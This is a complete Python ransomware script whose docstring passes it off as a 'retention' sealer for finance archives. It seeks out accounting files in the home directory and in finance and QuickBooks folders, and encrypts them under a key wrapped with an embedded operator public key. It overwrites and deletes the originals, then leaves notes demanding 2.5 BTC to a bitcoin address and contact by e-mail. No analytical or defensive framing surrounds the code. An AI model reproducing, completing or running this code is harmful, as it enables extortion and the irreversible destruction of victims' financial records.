#!/usr/bin/env python3
"""Seal finance archives (invoices, ledgers, exports) for "retention".

Walks the accounting folders, seals every document with AES-GCM and writes a
recovery notice next to each sealed folder.
"""
from __future__ import annotations

import argparse
import base64
import logging
import os
import secrets
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("archive_sealer")

TARGET_SUFFIXES = {
    ".pdf", ".csv", ".xlsx", ".xls", ".ods", ".qbw", ".qbb", ".ofx", ".qif",
    ".docx", ".sqlite", ".db", ".json", ".xml", ".mt940", ".sta",
}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git", "__pycache__"}
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "RECOVER_YOUR_LEDGERS.txt"

OPERATOR_PUBKEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----
"""

NOTICE = """Your accounting records have been sealed.

Every invoice, ledger and bank export in this folder is now unreadable.
To obtain the recovery key send 2.5 BTC to bc1q8m7x0c3f4ul0v2wq9w6lq3y5r9s0j7a2hkd4tz
and e-mail the ID below to recovery-desk@proton.me.

ID: {victim_id}
"""


def wrap_key(data_key: bytes) -> bytes:
    pub = serialization.load_pem_public_key(OPERATOR_PUBKEY)
    return pub.encrypt(
        data_key,
        padding.OAEP(mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None),
    )


def candidates(roots: list[Path]):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_SUFFIXES and not name.endswith(SEALED_SUFFIX):
                    yield p


def seal_file(path: Path, aead: AESGCM) -> bool:
    try:
        plain = path.read_bytes()
    except OSError as exc:
        LOG.debug("cannot read %s: %s", path, exc)
        return False
    nonce = secrets.token_bytes(12)
    blob = nonce + aead.encrypt(nonce, plain, path.name.encode())
    sealed = path.with_name(path.name + SEALED_SUFFIX)
    try:
        sealed.write_bytes(blob)
        # overwrite then drop the original so it cannot be undeleted
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * len(plain))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
    except OSError as exc:
        LOG.debug("cannot seal %s: %s", path, exc)
        return False
    return True


def drop_notice(folder: Path, victim_id: str) -> None:
    try:
        (folder / NOTICE_NAME).write_text(NOTICE.format(victim_id=victim_id))
    except OSError:
        pass


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--root", action="append", default=[],
                    help="extra folders to seal (home is always included)")
    ap.add_argument("--workers", type=int, default=8)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    home = Path.home()
    roots = [home] + [Path(r) for r in args.root]
    for extra in ("/srv/finance", "/mnt/accounting", "/var/lib/quickbooks"):
        if os.path.isdir(extra):
            roots.append(Path(extra))

    data_key = AESGCM.generate_key(bit_length=256)
    aead = AESGCM(data_key)
    victim_id = base64.urlsafe_b64encode(wrap_key(data_key)).decode()
    del data_key

    touched_dirs: set[Path] = set()
    count = 0
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        files = list(candidates(roots))
        for path, ok in zip(files, pool.map(lambda p: seal_file(p, aead), files)):
            if ok:
                count += 1
                touched_dirs.add(path.parent)

    for folder in touched_dirs:
        drop_notice(folder, victim_id)
    drop_notice(home, victim_id)
    LOG.warning("sealed %d documents", count)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
